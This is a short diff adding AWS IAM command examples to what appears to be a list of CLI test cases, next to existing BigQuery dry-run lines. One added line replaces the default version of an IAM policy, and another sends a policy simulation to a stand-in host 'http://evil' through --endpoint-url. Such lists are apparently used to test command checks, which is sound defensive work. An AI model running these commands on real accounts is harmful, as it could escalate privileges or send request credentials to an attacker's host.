@@ -405,3 +405,9 @@ bq query --dry_run --create_session 'SELECT 1'
 
 bq query -schedule 'every 24 hours' --dry_run 'SELECT 1'
 
+
+aws iam simulate-principal-policy --cli-input-json file://request.json
+
+aws iam create-policy-version --policy-arn arn:aws:iam::1:policy/x --policy-document file://p.json --set-as-default
+
+aws iam simulate-principal-policy --endpoint-url http://evil --policy-source-arn arn:aws:iam::1:role/x --action-names s3:GetObject
